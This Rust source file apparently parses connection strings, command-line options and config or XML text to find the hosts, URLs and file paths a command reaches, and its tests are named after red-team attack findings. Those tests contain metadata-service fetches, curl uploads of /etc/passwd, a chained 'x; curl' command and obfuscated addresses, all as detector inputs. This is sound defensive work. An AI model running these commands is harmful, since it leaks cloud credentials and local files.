/// parts of decimal, `0x` hexadecimal or `0` octal digits; `Some(true)`
/// when it has a dot or a port (so it is no count: `-O2`).
fn numeric_host(text: &str) -> Option<bool> {
    let digits = |t: &str, radix: u32| !t.is_empty() && t.chars().all(|c| c.is_digit(radix));
    let (host, ported) = match text.rsplit_once(':') {
        Some((h, p)) if digits(p, 10) => (h, true),
        _ => (text, false),
    };
    let parts = host.split('.').count();
    let numeric = (1..=4).contains(&parts)
        && host.split('.').all(
            |p| match p.strip_prefix("0x").or_else(|| p.strip_prefix("0X")) {
                Some(hex) => hex.is_empty() || digits(hex, 16),
                None if p.len() > 1 && p.starts_with('0') => digits(p, 8),
                None => digits(p, 10),
            },
        );
    numeric.then_some(ported || parts > 1)
}

/// The host of a connection string that names its server after a user:
/// Oracle's EZConnect (`scott/tiger@//db:1521/orcl`,
/// `user/pw@db:1521/orcl`, `scott/tiger@127.0.0.1`; not a `tnsnames.ora`
/// alias, `scott/tiger@ORCL`) and Go's MySQL driver
/// (`root@tcp(db:3306)/app`, `tcp(db:3306)/app`), without its port
/// ([`without_port`]); `None` for other text (`me@example.com` names a
/// mailbox, `@babel/core` a package, `dig @1.1.1.1` a server of its own).
fn user_at_host(item: &str) -> Option<&str> {
    if let Some(inner) = item.strip_prefix("tcp(") {
        return inner
            .split(')')
            .next()
            .filter(|h| !h.is_empty())
            .map(without_port);
    }
    let (user, after) = item.rsplit_once('@')?;
    if user.is_empty() {
        return None;
    }
    if let Some(inner) = after.strip_prefix("tcp(") {
        return inner
            .split(')')
            .next()
            .filter(|h| !h.is_empty())
            .map(without_port);
    }
    let slashed = after.strip_prefix("//");
    let rest = slashed.unwrap_or(after);
    if slashed.is_none() && !rest.contains(['/', '?']) && !user.contains('/') {
        return None;
    }
    let host = rest.split(['/', '?']).next().filter(|h| !h.is_empty())?;
    // `scott/tiger@ORCL` names a `tnsnames.ora` alias, `@types/node@20` a
    // package's version: a host after a bare `user/pw@` has a dot or a
    // `:` (`scott/tiger@127.0.0.1`, `u/p@db.example.com`).
    if slashed.is_none() && !rest.contains(['/', '?']) && !host.contains(['.', ':']) {
        return None;
    }
    // `git@github.com:org/repo`: what follows the `:` is no port.
    Some(match host.rsplit_once(':') {
        Some((h, port))
            if !h.ends_with(':') && !port.chars().all(|c| c.is_ascii_digit()) && !h.is_empty() =>
        {
            h
        }
        _ => without_port(host),
    })
}

/// `host` without a `:PORT` after it (`db.example.com:1521` is
/// `db.example.com`, `[::1]:1521` is `[::1]`; `::1` stays).
fn without_port(host: &str) -> &str {
    match host.rsplit_once(':') {
        Some((h, port))
            if !port.is_empty()
                && port.chars().all(|c| c.is_ascii_digit())
                && (!h.contains(':') || (h.starts_with('[') && h.ends_with(']'))) =>
        {
            h
        }
        _ => host,
    }
}

/// `true` for an IP address, perhaps in brackets and with a port
/// (`127.0.0.1`, `[::1]:8003`, `::1`), or `localhost` perhaps with a port.
fn address_like(text: &str) -> bool {
    let host = match text.rsplit_once(':') {
        Some((h, port))
            if port.chars().all(|c| c.is_ascii_digit()) && !h.is_empty() && !h.ends_with(':') =>
        {
            h
        }
        _ => text,
    };
    let bare = host
        .strip_prefix('[')
        .and_then(|h| h.strip_suffix(']'))
        .unwrap_or(host);
    text.parse::<std::net::IpAddr>().is_ok()
        || bare.parse::<std::net::IpAddr>().is_ok()
        || bare.trim_end_matches('.').eq_ignore_ascii_case("localhost")
}

/// `true` when a `Data Source` names a file, as SQLite's and Access's do
/// (`:memory:`, `C:\data\app.db`, `./app.db`, `|DataDirectory|\x.mdf`),
/// not a server.
fn names_a_file(value: &str) -> bool {
    let v = value.trim();
    // `::1` is an address, `:memory:` a file.
    if sql_server_hosts(v).iter().any(|h| address_like(h)) {
        return false;
    }
    let b = v.as_bytes();
    let drive = b.first().is_some_and(u8::is_ascii_alphabetic)
        && b.get(1) == Some(&b':')
        && b.get(2).is_some_and(|c| matches!(c, b'\\' | b'/'));
    drive || v.starts_with([':', '/', '|']) || v.starts_with("./") || v.starts_with(".\\")
}

/// The hosts of a SQL Server connection string's `Server` value as
/// SqlClient and ODBC read it: without a protocol (`tcp:`, `np:`, `lpc:`,
/// `admin:`), an instance (`\SQLEXPRESS`) and a port (`,1433`); `.`,
/// `(local)` and `(localdb)` are the local host (`localhost`). The same
/// keys hold a list of hosts to MySqlConnector and Npgsql
/// (`Server=a.example,127.0.0.1`): each element after the first that is
/// no port (a number from 1 to 65535) is a host too (`,0`, `,00` is
/// 0.0.0.0). At most as many hosts as the value has `,`.
fn sql_server_hosts(value: &str) -> Vec<String> {
    let mut hosts = Vec::new();
    for (i, element) in value.split(',').enumerate() {
        let mut v = element.trim();
        // A port (`,1433`): a number no port is (`,2130706433`) is a host.
        if i > 0 && (v.is_empty() || v.parse::<u16>().is_ok_and(|p| p > 0)) {
            continue;
        }
        for protocol in ["tcp:", "np:", "lpc:", "admin:"] {
            if v.len() >= protocol.len()
                && v.get(..protocol.len())
                    .is_some_and(|p| p.eq_ignore_ascii_case(protocol))
            {
                v = v.get(protocol.len()..).unwrap_or_default();
            }
        }
        let v = v.trim_start_matches('\\');
        let v = v.split('\\').next().unwrap_or_default().trim();
        let lower = v.to_ascii_lowercase();
        hosts.push(
            if v == "." || lower == "(local)" || lower.starts_with("(localdb)") {
                "localhost".to_owned()
            } else {
                v.to_owned()
            },
        );
    }
    hosts
}

/// The hosts of a curl `--resolve` field (`[+]HOST:PORT:ADDR[,ADDR]…`,
/// `*:8003:127.0.0.1`) or `--connect-to` field (`HOST1:PORT1:HOST2:PORT2`,
/// `::127.0.0.1:8003`), what follows the second `:`: a `HOST2:PORT2`
/// whole (a name or an address in any notation, which curl resolves:
/// `::127.1:8003`), else each of its `,`-separated parts that is an
/// address ([`address_like`]; curl's `--resolve` takes no other). None for
/// text of another shape (`12:30:45`: a time names no address).
fn curl_addresses(field: &str) -> Vec<&str> {
    let mut parts = field.splitn(3, ':');
    let (Some(_host), Some(port), Some(rest)) = (parts.next(), parts.next(), parts.next()) else {
        return Vec::new();
    };
    if !port.chars().all(|c| c.is_ascii_digit()) {
        return Vec::new();
    }
    // `HOST2:PORT2`, an IPv6 `HOST2` in brackets (an unbracketed `::1` is
    // a `--resolve` address).
    if let Some((host, port)) = rest.rsplit_once(':') {
        let one_host = (!host.contains(':') || (host.starts_with('[') && host.ends_with(']')))
            && host.chars().all(|c| {
                c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '[' | ']' | ':' | '%')
            });
        if one_host && !port.is_empty() && port.chars().all(|c| c.is_ascii_digit()) {
            return if host.is_empty() {
                Vec::new()
            } else {
                vec![host]
            };
        }
    }
    rest.split(',').filter(|a| address_like(a.trim())).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn items_as_their_parsers_read_them() {
        for (text, want) in [
            (
                "host = 127.0.0.1 port = 5432",
                json!([{"host": "127.0.0.1"}, {"port": "5432"}]),
            ),
            (
                "dbname=x host\t=\t10.0.0.5",
                json!([{"dbname": "x"}, {"host": "10.0.0.5"}]),
            ),
            ("host = '127.0.0.1'", json!([{"host": "127.0.0.1"}])),
            (
                "Server=tcp:db.example.com,1433;Database=x",
                json!([{"host": "db.example.com"}, {"Database": "x"}]),
            ),
            (
                "Driver={ODBC Driver 18 for SQL Server};Server=db\\INST1,1433",
                json!([{"Driver": "ODBC Driver 18 for SQL Server"}, {"host": "db"}]),
            ),
            // ODBC reads a braced value without its braces, `}}` as `}`.
            (
                "Driver={x};Server={127.0.0.1};PWD={a}}b;c}",
                json!([{"Driver": "x"}, {"host": "127.0.0.1"}, {"password": "a}b;c"}]),
            ),
            (
                "Server=.;Trusted_Connection=True",
                json!([{"host": "localhost"}, {"Trusted_Connection": "True"}]),
            ),
            (
                "Data Source=(localdb)\\MSSQLLocalDB",
                json!([{"host": "localhost"}]),
            ),
            ("-x127.0.0.1:8080", json!([{"host": "127.0.0.1:8080"}])),
            ("-h127.0.0.1", json!([{"host": "127.0.0.1"}])),
            (
                "-xhttp://10.0.0.1:3128",
                json!([{"url": "http://10.0.0.1:3128"}]),
            ),
            ("--resolve=*:8003:127.0.0.1", json!([{"host": "127.0.0.1"}])),
            (
                "+example.com:8003:127.0.0.1,[::1]",
                json!([{"host": "127.0.0.1"}, {"host": "[::1]"}]),
            ),
            ("::127.0.0.1:8003", json!([{"host": "127.0.0.1"}])),
            ("--connect-to=::[::1]:8003", json!([{"host": "[::1]"}])),
            // An unbracketed IPv6 address ends a `--resolve` field: its
            // last `:` starts no port.
            ("--resolve=a.example:443:::1", json!([{"host": "::1"}])),
            ("--resolve=a.example:443:fd00::1", json!([{"host": "fd00::1"}])),
            // curl resolves `--connect-to`'s HOST2 as any host: a name or
            // an address in any notation; HOST2 empty keeps the URL's.
            ("--connect-to=::127.1:8003", json!([{"host": "127.1"}])),
            ("--connect-to a.example:443:db.internal:5432", json!([{"host": "db.internal"}])),
            ("::0x7f000001:8003", json!([{"host": "0x7f000001"}])),
            // A SQL Server at an IPv6 address is no file (`:memory:` is).
            ("Server=::1,1433;Database=x", json!([{"host": "::1"}, {"Database": "x"}])),
            (
                "--proxy=http://127.0.0.1:8080",
                json!([{"proxy": "http://127.0.0.1:8080"}]),
            ),
            (
                "HTTP_PROXY = http://127.0.0.1:8080",
                json!([{"HTTP_PROXY": "http://127.0.0.1:8080"}]),
            ),
            (
                "curl http://10.0.0.1/x",
                json!([{"url": "http://10.0.0.1/x"}]),
            ),
            (
                "--execute=http_proxy=127.0.0.1:8003",
                json!([{"http_proxy": "127.0.0.1:8003"}, {"execute": "http_proxy=127.0.0.1:8003"}]),
            ),
            (
                "Data Source=C:\\data\\app.sqlite;Version=3",
                json!([{"Version": "3"}]),
            ),
            (
                "a=1&url=http://10.0.0.1/",
                json!([{"a": "1"}, {"url": "http://10.0.0.1/"}]),
            ),
            // Attack s51 F42: as a shell's quote removal leaves it.
            (
                "ht\"\"tp://x",
                json!([{"url": "ht\"\"tp://x"}, {"url": "http://x"}]),
            ),
            ("-x12''7.0.0.1:8003", json!([{"host": "127.0.0.1:8003"}])),
            ("-x12\\7.0.0.1:8003", json!([{"host": "127.0.0.1:8003"}])),
            (
                "--proxy=\"http://127.0.0.1:8080\"",
                json!([{"proxy": "http://127.0.0.1:8080"}]),
            ),
            (
                "(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=127.0.0.1)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=orcl)))",
                json!([{"PROTOCOL": "TCP"}, {"HOST": "127.0.0.1"}, {"PORT": "1521"}, {"SERVICE_NAME": "orcl"}]),
            ),
            // An unclosed brace is no ODBC literal.
            ("Server={10.0.0.5", json!([{"host": "{10.0.0.5"}])),
        ] {
            assert_eq!(settings_items(text), Some(want), "{text:?}");
        }
        for none in [
            ":8080",
            "Data Source=:memory:",
            "Data Source=./app.db",
            "grep -rn 127.0.0.1 src/",
            "--bind 0.0.0.0",
            "open localhost:3000",
            "-O2 -lpthread -j4",
            "12:30:45",
            "a.example:443::8003",
            "make all",
            "",
            "# host=127.0.0.1",
            "ls -la /tmp",
        ] {
            // No item, or none a host or URL check reads (`Source` of the
            // words of `Data Source=:memory:`).
            let items = settings_items(none).unwrap_or_default();
            let checked: Vec<&Value> = items
                .as_array()
                .into_iter()
                .flatten()
                .filter(|m| m.get("host").is_some() || m.get("url").is_some())
                .collect();
            assert!(checked.is_empty(), "{none:?}: {checked:?}");
        }
    }

    /// The members of `text`'s items; none when it has no items.
    fn members(text: &str) -> Vec<Value> {
        settings_items(text)
            .and_then(|v| v.as_array().cloned())
            .unwrap_or_default()
    }

    /// Asserts that `text`'s items hold the member `{key: value}`.
    fn assert_holds(text: &str, key: &str, value: &str) {
        let items = members(text);
        assert!(
            items
                .iter()
                .any(|m| m.get(key).and_then(Value::as_str) == Some(value)),
            "{text:?}: {items:?}"
        );
    }

    /// Attack s52: each text's items hold the host or URL its program
    /// reaches (`A…` the finding).
    #[test]
    fn hosts_behind_other_shapes_are_items() {
        for (text, key, value) in [
            // A20: one `=` after words does not make the line one item.
            (
                "fetch mode=fast http://169.254.169.254/x",
                "url",
                "http://169.254.169.254/x",
            ),
            // A21: a `;` in a quoted option does not make a connection string.
            (
                "-H 'Accept: text/html;q=0.9' -x127.0.0.1:8080",
                "host",
                "127.0.0.1:8080",
            ),
            (
                "-b 'a=1;b=2' --connect-to ::127.0.0.1:80",
                "host",
                "127.0.0.1",
            ),
            // A1: libpq braces hide no host.
            ("application_name={;} host=127.0.0.1", "host", "127.0.0.1"),
            ("Data Source={169.254.169.254}", "host", "169.254.169.254"),
            // A22: a key of another shape is read by its last name.
            (
                "--set servers[0].url=http://169.254.169.254/",
                "url",
                "http://169.254.169.254/",
            ),
            ("--set proxy.hosts[0]=127.0.0.1", "hosts", "127.0.0.1"),
            ("url+=http://10.0.0.1/", "url", "http://10.0.0.1/"),
            ("a[]=http://10.0.0.1/", "a", "http://10.0.0.1/"),
            ("[0]=http://10.0.0.1/", "value", "http://10.0.0.1/"),
            // A8: one slash after the scheme.
            ("-s http:/127.0.0.1/", "url", "http:/127.0.0.1/"),
            (
                "--url HTTPS:/169.254.169.254/",
                "url",
                "HTTPS:/169.254.169.254/",
            ),
            // A6: attached hosts in a resolver's notations.
            ("-h127.1 -P3306", "host", "127.1"),
            ("-x127.1 https://example.com/", "host", "127.1"),
            ("-p0x7f000001:8080", "host", "0x7f000001:8080"),
            ("-hdb.internal", "host", "db.internal"),
            // Any option's attached value in a resolver's notation, with a
            // dot and no port (`ssh -b`'s bind address).
            ("-b127.1 -v", "host", "127.1"),
            // A19: a list of servers.
            (
                "Server=example.com,127.0.0.1;Database=x",
                "host",
                "127.0.0.1",
            ),
            ("Data Source=a.example,10.0.0.5,1433", "host", "10.0.0.5"),
            ("Database=x;Failover Partner=127.1", "host", "127.1"),
            ("Server=example.com,00;Database=x", "host", "00"),
            // A3: a TNS descriptor after a key or a user.
            (
                "Data Source=(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=127.0.0.1)(PORT=1521)))",
                "HOST",
                "127.0.0.1",
            ),
            (
                "scott/tiger@(DESCRIPTION=(ADDRESS=(HOST=10.0.0.1)))",
                "HOST",
                "10.0.0.1",
            ),
            // A4: EZConnect and Go's MySQL DSN.
            ("scott/tiger@//127.0.0.1:1521/orcl", "host", "127.0.0.1"),
            ("user/pw@127.1:1521/orcl", "host", "127.1"),
            (
                "root@tcp(169.254.169.254:80)/db?timeout=1s",
                "host",
                "169.254.169.254",
            ),
            ("git@db.internal:org/repo", "host", "db.internal"),
            // A9: lines as `str.splitlines` splits them.
            ("X=1\u{1e}PGHOST=127.0.0.1", "PGHOST", "127.0.0.1"),
            ("X=1\u{2028}host=127.0.0.1", "host", "127.0.0.1"),
            ("X=1\u{85}host=127.0.0.1", "host", "127.0.0.1"),
        ] {
            assert_holds(text, key, value);
        }
        // Words that name no host stay so.
        for text in [
            "grep -hrn pattern",
            "-O2 -lpthread",
            "me@example.com",
            "-hrn",
            "Server=db,1433",
        ] {
            let items = settings_items(text).unwrap_or_default();
            let hosts: Vec<&Value> = items
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|m| m.get("host"))
                .collect();
            assert!(hosts.iter().all(|h| *h == "db"), "{text:?}: {items}");
        }
    }

    /// Attack s52, A7 and A17: a word that is a URL alone is an argument
    /// checked as an `argv` element is; a file curl reads for a value is a
    /// path.
    #[test]
    fn url_words_and_value_files() {
        for (text, key, value) in [
            (
                "wget -qO- 169.254.169.254/latest/meta-data/",
                "arg",
                "169.254.169.254/latest/meta-data/",
            ),
            (
                "-s //169.254.169.254/latest",
                "arg",
                "//169.254.169.254/latest",
            ),
            ("-s localhost:8080/admin", "arg", "localhost:8080/admin"),
            ("-s [::1]:80/x", "arg", "[::1]:80/x"),
            ("http :8080/admin", "arg", ":8080/admin"),
            (
                "curl http%3A%2F%2F127.0.0.1%2F",
                "arg",
                "http%3A%2F%2F127.0.0.1%2F",
            ),
            (
                "-F file=@/etc/passwd https://example.com/",
                "path",
                "/etc/passwd",
            ),
            (
                "-F file=</etc/passwd;type=text/plain",
                "path",
                "/etc/passwd",
            ),
            ("--data=@../secret", "path", "../secret"),
        ] {
            assert_holds(text, key, value);
        }
        for text in [
            "--mention=@alice",
            "grep -rn 127.0.0.1 src/",
            "make all",
            "uvicorn main:app",
            "node --import node:fs/promises app.js",
            "--resolve a.example:443:0273.0271.022.0272",
        ] {
            let items = settings_items(text).unwrap_or_default();
            assert!(
                !items.to_string().contains("\"path\"") && !items.to_string().contains("\"arg\""),
                "{text:?}: {items}"
            );
        }
    }

    /// Attack s53: what the broader readings must leave alone (B1–B4,
    /// B19–B21), and what they missed (B10–B13, B23).
    #[test]
    fn command_lines_of_s53() {
        let checked = |text: &str| -> Vec<Value> {
            members(text)
                .into_iter()
                .filter(|m| {
                    ["host", "url", "arg", "path"]
                        .iter()
                        .any(|k| m.get(k).is_some())
                })
                .collect()
        };
        for text in [
            "docker run --rm nginx:1.25",
            "docker build -t myapp:1.0.0 .",
            "FROM python:3.12-slim",
            "redis-cli HGETALL user:42",
            "openssl req -x509 -newkey rsa:4096 -days 365",
            "--json {\"name\":\"a\",\"url\":\"x\"}",
            "npm install @babel/core @types/node",
            "npm install @types/node@20",
            "sqlplus scott/tiger@ORCL",
            "system/manager@XE",
            "--since 2024-01-01T00:00:00+01:00",
            "lsof -i :8080",
            "dig @1.1.1.1 example.com",
            "uvicorn main:app --reload",
        ] {
            assert_eq!(checked(text), Vec::<Value>::new(), "{text:?}");
        }
        for (text, key, value) in [
            (
                "scott/tiger@db.example.com:1521/ORCLPDB1",
                "host",
                "db.example.com",
            ),
            ("u@tcp(db.example.com:3306)/app", "host", "db.example.com"),
            ("tcp(127.0.0.1:3306)/app", "host", "127.0.0.1"),
            ("scott/tiger@127.0.0.1", "host", "127.0.0.1"),
            (
                "curl http://169.254.169.254/latest/meta-data/;",
                "url",
                "http://169.254.169.254/latest/meta-data/",
            ),
            ("x; curl http://10.0.0.1/", "url", "http://10.0.0.1/"),
            ("curl 127.0.0.1:8003", "arg", "127.0.0.1:8003"),
            (
                "curl -x 127.0.0.1:8080 https://example.com/",
                "arg",
                "127.0.0.1:8080",
            ),
            (
                "kubectl -s localhost:6443 get pods",
                "arg",
                "localhost:6443",
            ),
            (
                "curl http:\\\\169.254.169.254\\latest",
                "url",
                "http:\\\\169.254.169.254\\latest",
            ),
            ("curl -d @../x https://example.com/", "path", "../x"),
            (
                "curl -d@/etc/passwd https://example.com/",
                "path",
                "/etc/passwd",
            ),
            ("gcc @/tmp/args", "path", "/tmp/args"),
        ] {
            assert_holds(text, key, value);
        }
    }

    /// Mutants of the s52 readings: a user's host is read only from a word
    /// without `=` (a value's own `@` is the value's), and a TNS reading
    /// starts only at a `(KEY=` pair.
    #[test]
    fn user_hosts_and_tns_start_where_they_should() {
        assert_eq!(
            settings_items("note=me@localhost/x"),
            Some(json!([{"note": "me@localhost/x"}]))
        );
        assert_eq!(settings_items("a (b c=1)"), Some(json!([{"c": "1)"}])));
    }

    proptest::proptest! {
        /// Exact oracle: a text written as `java.util.Properties.store`
        /// writes a value (`\\` doubled, every character past ASCII and
        /// every control as `\uXXXX`) reads back as the text.
        #[test]
        fn properties_escapes_read_back(text in proptest::prelude::any::<String>()) {
            let mut written = String::new();
            for c in text.chars() {
                match c {
                    '\\' => written.push_str("\\\\"),
                    c if c.is_ascii() && !c.is_ascii_control() => written.push(c),
                    c => {
                        let mut units = [0_u16; 2];
                        for u in c.encode_utf16(&mut units) {
                            written.push_str(&format!("\\u{u:04x}"));
                        }
                    }
                }
            }
            let read = properties_unescaped(&written).unwrap_or_else(|| written.clone());
            // A character past U+FFFF is two `\u` units (a surrogate
            // pair): read one by one, each is no character and stays.
            if text.chars().all(|c| (c as u32) < 0x10000) {
                proptest::prop_assert_eq!(read, text);
            }
        }
    }

    /// Attack s79-A, B1-B4: configuration lines as their parsers read them.
    #[test]
    fn configuration_lines_as_their_parsers_read_them() {
        let items = |t: &str| config_lines(t);
        assert_eq!(
            items("[db]\nhost = example.com\n  127.0.0.1\nport: 1\n"),
            vec![
                ("host".to_owned(), "example.com\n127.0.0.1".to_owned()),
                ("port".to_owned(), "1".to_owned())
            ]
        );
        assert_eq!(
            items("a.b=x,\\\n   y\n"),
            vec![("a.b".to_owned(), "x,y".to_owned())]
        );
        assert_eq!(
            items("a.b=x\\\\\nc y\n"),
            vec![
                ("a.b".to_owned(), "x\\\\".to_owned()),
                ("c".to_owned(), "y".to_owned())
            ]
        );
        assert_eq!(
            items("host = <<-EOT\n  a\n  b\n  EOT\nport = 1\n"),
            vec![
                ("host".to_owned(), "a\nb\n".to_owned()),
                ("port".to_owned(), "1".to_owned())
            ]
        );
        assert_eq!(
            xml_leaves(&xml_content(
                "<a><b>x<!-- y -->z</b><c><![CDATA[<d>&]]></c></a>"
            ))
            .collect::<Vec<_>>(),
            vec![
                ("b".to_owned(), "xz".to_owned()),
                ("c".to_owned(), "<d>&".to_owned())
            ]
        );
        // No leaf: tags that do not match, a self-closing tag before text.
        for text in [
            "<host>10.0.0.1</port>",
            "<host x=\"1\"/>10.0.0.1</host>",
            "<>x</>",
        ] {
            assert_eq!(xml_leaves(text).count(), 0, "{text}");
        }
    }

    /// Attack s80 on #20, finding 2: the literals an XML parser hands the
    /// application besides element text: a DTD's attribute defaults and
    /// entity values, and attributes, their references read.
    #[test]
    fn xml_literals_as_a_parser_gives_them() {
        let dtd = "<?xml version=\"1.0\"?>\n<!DOCTYPE c [\n\
            <!ATTLIST el attr CDATA \"http://169.254.169.254/\"\n\
            \x20 b CDATA #IMPLIED c (x|y) 'x' d CDATA #FIXED 'http&#58;//10.0.0.1/'>\n\
            <!ENTITY e \"http&#x3a;//127.0.0.1/\">\n\
            <!ENTITY % p 'a&#38;b'>\n\
            <!ENTITY ext SYSTEM \"http://example.com/x.dtd\">\n\
            <!-- <!ENTITY no \"http://10.9.9.9/\"> -->\n\
            ]>\n<c><el k=\"v&amp;w\" u='http&#58;//127.0.0.2/'/></c>";
        assert_eq!(
            xml_literals(&xml_content(dtd)).collect::<Vec<_>>(),
            vec![
                ("attr".to_owned(), "http://169.254.169.254/".to_owned()),
                ("c".to_owned(), "x".to_owned()),
                ("d".to_owned(), "http://10.0.0.1/".to_owned()),
                ("e".to_owned(), "http://127.0.0.1/".to_owned()),
                ("p".to_owned(), "a&b".to_owned()),
                ("ext".to_owned(), "http://example.com/x.dtd".to_owned()),
                ("k".to_owned(), "v&w".to_owned()),
                ("u".to_owned(), "http://127.0.0.2/".to_owned()),
            ]
        );
        let items = config_items(dtd).unwrap_or_default().to_string();
        assert!(
            items.contains(r#"{"attr":"http://169.254.169.254/"}"#),
            "{items}"
        );
        assert!(items.contains(r#"{"e":"http://127.0.0.1/"}"#), "{items}");
        assert!(!items.contains("10.9.9.9"), "{items}");
    }

    /// Attack s80 on #20, finding 1: every element of a comma list, a
    /// bracketed IPv6 address with a port after another too.
    #[test]
    fn every_element_of_a_comma_list() {
        assert_eq!(
            comma_items("example.com,[::1]:8080, [fe80::1]:22"),
            Some(json!([{"arg": "[::1]:8080"}, {"arg": "[fe80::1]:22"}]))
        );
        assert_eq!(
            settings_items("--peers=a,[::1]:8080"),
            Some(json!([{"peers": "a,[::1]:8080"}, {"arg": "[::1]:8080"}]))
        );
        assert_eq!(
            comma_items("http://a.example/,127.0.0.1:2"),
            Some(json!([{"url": "http://a.example/"}, {"arg": "127.0.0.1:2"}]))
        );
        assert_eq!(comma_items("example.com"), None);
        assert_eq!(comma_items("a,b,c"), None);
        assert_eq!(comma_items("http://{8.8.8.8,example.org}/{a,b}"), None);
        assert_eq!(
            comma_items("http://{a,b}.example/,[::1]:2"),
            Some(json!([{"url": "http://{a,b}.example/"}, {"arg": "[::1]:2"}]))
        );
        // A curl `--resolve` field stays read as one.
        assert_eq!(
            settings_items("--resolve=a.example:443:127.0.0.1"),
            Some(json!([{"host": "127.0.0.1"}]))
        );
    }

    /// Attack s80 on #20, finding 5: a form feed is white space to
    /// `java.util.Properties`, between a key and its value too.
    #[test]
    fn a_form_feed_separates_a_properties_item() {
        assert_eq!(
            config_items("host\u{c}127.0.0.1\nport\u{c}=\u{c}1\n"),
            Some(json!([{"host": "127.0.0.1"}, {"port": "1"}]))
        );
        assert_eq!(
            config_items("a.b\u{c}x,\\\n\u{c}y\n"),
            Some(json!([{"a.b": "x,y"}]))
        );
    }
}
